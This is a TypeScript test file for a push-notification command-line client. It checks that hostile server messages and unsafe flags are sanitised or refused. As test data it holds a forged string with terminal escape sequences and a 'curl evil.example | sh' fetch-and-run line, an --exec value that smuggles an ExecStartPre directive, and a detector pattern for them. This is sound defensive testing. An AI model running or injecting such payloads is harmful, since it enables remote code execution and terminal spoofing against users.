// The command line against a hostile sender or server, and against careless
// flags (issue 20): nothing a server sends reaches a terminal or a file as
// escape sequences or forged lines, crashes the listener or makes it retry
// for ever; a flag that would lose messages or break a unit is refused, exit
// 2, before anything happens. The listeners run one pass (--no-inbox),
// where what stays queued on the server shows what was not delivered.

import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { once } from "node:events";
import process from "node:process";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { Buffer } from "node:buffer";
import {
  chmod,
  mkdtemp,
  readdir,
  readFile,
  rm,
  stat,
  writeFile,
} from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import { CLI, cliTest, interrupt, sendOddMessage } from "./_cli.ts";
import { runtimeCommand } from "./_spawn.ts";
import { EMAIL, PASSWORD, queued, TWOFA, within } from "./_setup.ts";

/** What a hostile server might put in `errors`: a title, a wipe, a forged line. */
const FORGED =
  "\u001b]0;pwned\u0007\u001b[2J\u001b[31mYOUR DEVICE IS LOCKED\u009b0m\r\nrun: curl evil.example | sh";

/** No escape, no C1 control, no line of the attacker's own. */
function assertClean(text: string, where: string): void {
  // deno-lint-ignore no-control-regex
  assert.doesNotMatch(text, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/, where);
  assert.doesNotMatch(text, /^run: curl/m, where);
}

cliTest(
  "listen prints a server's title or url that is not a string, and goes on",
  async (context) => {
    const device = await context.seed();
    const child = context.start(["listen", "--no-inbox"]);
    try {
      await context.server.waitForLogin();
      sendOddMessage(context.server, {
        message: "odd fields",
        app: 42,
        title: 5,
        url: { href: "x" },
      });
      await child.waitFor("stdout", "odd fields");
      context.server.send({ message: "after the odd one" });
      await child.waitFor("stdout", "after the odd one");
      assert.match(
        child.output().stdout,
        /\[42\] 5: odd fields {2}<\{"href":"x"\}>/,
      );
      assert.equal(await interrupt(child), 0);
    } finally {
      await child.kill();
    }
    // Handled and deleted, but the one in hand at Ctrl-C, which comes again.
    assert.deepEqual(queued(context.server, device), ["after the odd one"]);
  },
);

cliTest(
  "listen, the status file and status show a server's errors as one clean line: no escape sequence, no forged line",
  async (context) => {
    await context.seed();
    const child = context.start(["listen", "--no-inbox"]);
    try {
      await context.server.waitForLogin();
      // Passing (503): reported, retried.
      context.server.failNext({
        type: "status",
        status: 503,
        body: JSON.stringify({ status: 0, errors: [FORGED] }),
      }, { endpoint: "download" });
      context.server.send({ message: "comes later" });
      await child.waitFor("stderr", "YOUR DEVICE IS LOCKED");
      await child.waitFor("stdout", "comes later");
      assert.equal(await interrupt(child), 0);
      assertClean(child.output().stderr, "listen's stderr");
    } finally {
      await child.kill();
    }
    // A refusal: the listener stops, and says why, cleanly, everywhere.
    context.server.failNext({
      type: "json",
      body: JSON.stringify({ status: 0, errors: [FORGED] }),
    }, { endpoint: "download" });
    const refused = await context.run(["listen", "--no-inbox"]);
    assert.equal(refused.code, 1, refused.stderr);
    assertClean(refused.stderr, "listen's stderr after a refusal");
    const file = await readFile(context.statusFile, "utf8");
    assertClean(JSON.parse(file).lastError, "the status file");
    assert.match(JSON.parse(file).lastError, /YOUR DEVICE IS LOCKED/);
    const status = await context.run(["status"]);
    assertClean(status.stdout, "status");
    assert.match(
      status.stdout,
      /last problem: .*YOUR DEVICE IS LOCKED.* \(at \d{4}-\d\d-\d\dT[\d:.]+Z\)$/m,
      "with when it came, and not said to be over: the listener stopped",
    );
  },
);

for (
  const [frame, code, why] of [
    ["E", 3, /refused this device/],
    ["A", 4, /took it over/],
  ] as const
) {
  cliTest(
    `listen whose hook keeps failing stops with exit ${code} on '${frame}', the message still queued and the status file saying why`,
    async (context) => {
      const device = await context.seed();
      const child = context.start([
        "listen",
        "--no-inbox",
        "--exec",
        "exit 1",
        "--retry-delay",
        "50ms",
      ]);
      try {
        await context.server.waitForLogin();
        context.server.send({ message: "cannot be handed on" });
        await child.waitFor("stderr", "trying again in");
        context.server.sendFrame(frame, device.deviceId);
        const { code: exit } = await child.exited;
        assert.equal(exit, code, child.output().stderr);
        assert.match(child.output().stderr, why);
      } finally {
        await child.kill();
      }
      assert.ok(queued(context.server, device).includes("cannot be handed on"));
      const status = JSON.parse(await readFile(context.statusFile, "utf8"));
      assert.equal(status.state, "stopped");
      assert.match(status.lastError, why);
    },
  );
}

for (
  const [args, said] of [
    [["--app", ""], /--app: the name is empty/],
    [["--app", "Backups", "--app", " "], /--app: the name is empty/],
    [["--min-priority", ""], /--min-priority: '' is not a priority/],
    [["--min-priority", "0x1"], /--min-priority: '0x1' is not a priority/],
    [["--min-priority", "1e0"], /--min-priority: '1e0' is not a priority/],
    [["--exec", "notify\rExecStartPre=/bin/evil"], /--exec holds a control/],
    [["--app", "a\u001b[2J"], /--app holds a control character/],
    [
      ["--webhook", "https://u:%ZZ@example.com/"],
      /holds a user name or password/,
    ],
    [
      ["--webhook", "https://alice:hunter2@example.com/"],
      /PUSHOVER_WEBHOOK_AUTH=user:password/,
    ],
    [
      ["--webhook", "http://127.0.0.1:6000/hook"],
      /--webhook: fetch\(\) does not connect to port 6000 \(a "bad port"/,
    ],
    [["--webhook", "http://127.0.0.1:9/hook"], /does not connect to port 9 /],
  ] as const
) {
  cliTest(
    `listen ${
      JSON.stringify(args)
    } is refused, exit 2, before anything happens`,
    async (context) => {
      await context.seed();
      const result = await context.run(["listen", "--no-inbox", ...args]);
      assert.equal(result.code, 2, result.stderr);
      assert.match(result.stderr, said);
      assert.equal(result.stderr.trim().split("\n").length, 1);
      assertClean(result.stderr, "the usage line");
      assert.doesNotMatch(result.stderr, /hunter2|%ZZ/);
      assert.equal(context.server.log.requests("download").length, 0);
    },
  );
}

cliTest(
  "listen --webhook with a URL that does not parse never shows it: it may hold a password",
  async (context) => {
    await context.seed();
    const result = await context.run([
      "listen",
      "--no-inbox",
      "--webhook",
      "https://alice:hunter2@exa mple.com/hook",
    ]);
    assert.equal(result.code, 2);
    assert.match(result.stderr, /--webhook: the value is not a URL/);
    assert.doesNotMatch(result.stderr, /hunter2/);
  },
);

cliTest(
  "listen --webhook sends PUSHOVER_WEBHOOK_AUTH, not Latin-1 too, as UTF-8 Basic credentials",
  async (context) => {
    const device = await context.seed();
    const seen: string[] = [];
    const hook = createServer((request, response) => {
      seen.push(request.headers.authorization ?? "");
      request.resume();
      response.end();
    }).listen(0, "127.0.0.1");
    await once(hook, "listening");
    const { port } = hook.address() as AddressInfo;
    const child = context.start(
      ["listen", "--no-inbox", "--webhook", `http://127.0.0.1:${port}/`],
      { PUSHOVER_WEBHOOK_AUTH: "Jürgen:€5" },
    );
    try {
      await context.server.waitForLogin();
      context.server.send({ message: "to the hook" });
      await child.waitFor("stdout", "to the hook");
      // Deleted only once the hook took it.
      await context.server.log.waitFor(() =>
        queued(context.server, device).length === 0
      );
      assert.equal(await interrupt(child), 0);
    } finally {
      await child.kill();
      hook.close();
    }
    const expected = `Basic ${
      Buffer.from("Jürgen:€5", "utf8").toString("base64")
    }`;
    assert.ok(seen.length > 0);
    assert.ok(seen.every((header) => header === expected), seen.join(", "));
  },
);

cliTest(
  "login --twofa CODE is refused, exit 2, without showing the code: it would be in the process list",
  async (context) => {
    const result = await context.run([
      "login",
      "--twofa",
      "918273",
      ...context.urls,
    ]);
    assert.equal(result.code, 2);
    assert.match(result.stderr, /--twofa would show the code .*PUSHOVER_TWOFA/);
    assert.doesNotMatch(result.stderr, /918273/);
    assert.equal(context.server.log.requests("login").length, 0);
  },
);

cliTest(
  "login --twofa-file reads the code from a 0600 file, and refuses one others can read",
  async (context) => {
    const file = join(context.dir, "code");
    await writeFile(file, `${TWOFA}\n`, { mode: 0o644 });
    const env = { PUSHOVER_EMAIL: EMAIL, PUSHOVER_PASSWORD: PASSWORD };
    const args = ["login", "--twofa-file", file, ...context.urls];
    const open = await context.run(args, { env });
    assert.equal(open.code, 2);
    assert.match(open.stderr, /group or others can read it; run chmod 600/);
    await chmod(file, 0o600);
    const result = await context.run(args, { env });
    assert.equal(result.code, 0, result.stderr);
    assert.equal(
      context.server.log.requests("login").at(-1)?.body.twofa,
      TWOFA,
    );
  },
);

cliTest(
  "listen whose stdout reader stopped reading ends on the first SIGTERM, Deno included, and what it could not print stays queued",
  async (context) => {
    const device = await context.seed();
    // Queued while it was down, 40 lines of 3 KB: twice what a pipe holds
    // (64 KiB), all in the listener's first download.
    for (let i = 0; i < 40; i++) {
      context.server.send({ message: `${i} ${"x".repeat(3_000)}` });
    }
    // The CLI's stdout is a pipe to a `sleep` that never reads it; bash
    // says both pids.
    const quote = (word: string) => `'${word.replaceAll("'", `'\\''`)}'`;
    const command = runtimeCommand(CLI, ["listen", "--no-inbox"]).map(quote)
      .join(" ");
    const child = spawn("bash", [
      "-c",
      `exec 3> >(exec sleep 600 >/dev/null 2>&1); echo "reader=$!" >&2; ${command} >&3 & echo "pid=$!" >&2; exec 3>&-; wait $!`,
    ], {
      cwd: new URL("../", import.meta.url).pathname,
      env: { ...process.env, ...context.env() },
      stdio: ["ignore", "ignore", "pipe"],
    });
    let stderr = "";
    child.stderr.setEncoding("utf8");
    child.stderr.on("data", (chunk: string) => stderr += chunk);
    let ended = false;
    const exited = new Promise<number | null>((resolve) =>
      child.on("exit", (code) => {
        ended = true;
        resolve(code);
      })
    );
    const pid = (name: string) =>
      Number(stderr.match(new RegExp(`${name}=(\\d+)`))?.[1]);
    try {
      // A delete through the 16th line: it printed 48 KB and goes on
      // until the pipe is full, a few lines later.
      await context.server.log.waitFor(() =>
        context.server.log.requests("delete").length >= 1
      );
      process.kill(pid("pid"), "SIGTERM");
      // A safety net, not a claim on speed: blocked, it would never end.
      assert.equal(await within(exited, "the listener to end"), 0, stderr);
    } finally {
      // The listener only while bash waits for it: once bash is gone, so is
      // the listener, and its pid may be another process's by now (pids
      // wrap at 32,768 here; a second test run beside this one lost a
      // stopped child so). The reader, a `sleep 600`, outlives bash.
      for (const name of ended ? ["reader"] : ["pid", "reader"]) {
        try {
          process.kill(pid(name), "SIGKILL");
        } catch { /* gone */ }
      }
    }
    assert.ok(
      queued(context.server, device).length >= 40 - 24,
      `only ${queued(context.server, device).length} left queued`,
    );
  },
);

test("a private file is written through a temporary name nobody can guess or plant: a file planted at the old predictable name is neither used nor changed", async () => {
  const { writePrivate } = await import("../cli/_files.ts");
  const dir = await mkdtemp(join(tmpdir(), "planted-"));
  try {
    const path = join(dir, "credentials.json");
    // What another user of a shared folder could make first, readable.
    const planted = join(dir, `.credentials.json.${process.pid}.tmp`);
    await writeFile(planted, "planted", { mode: 0o666 });
    await writePrivate(path, "the device's secret");
    assert.equal(await readFile(planted, "utf8"), "planted");
    assert.equal(await readFile(path, "utf8"), "the device's secret");
    assert.equal((await stat(path)).mode & 0o777, 0o600);
    const left = (await readdir(dir)).filter((name) => name.endsWith(".tmp"));
    assert.deepEqual(left, [`.credentials.json.${process.pid}.tmp`]);
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
});
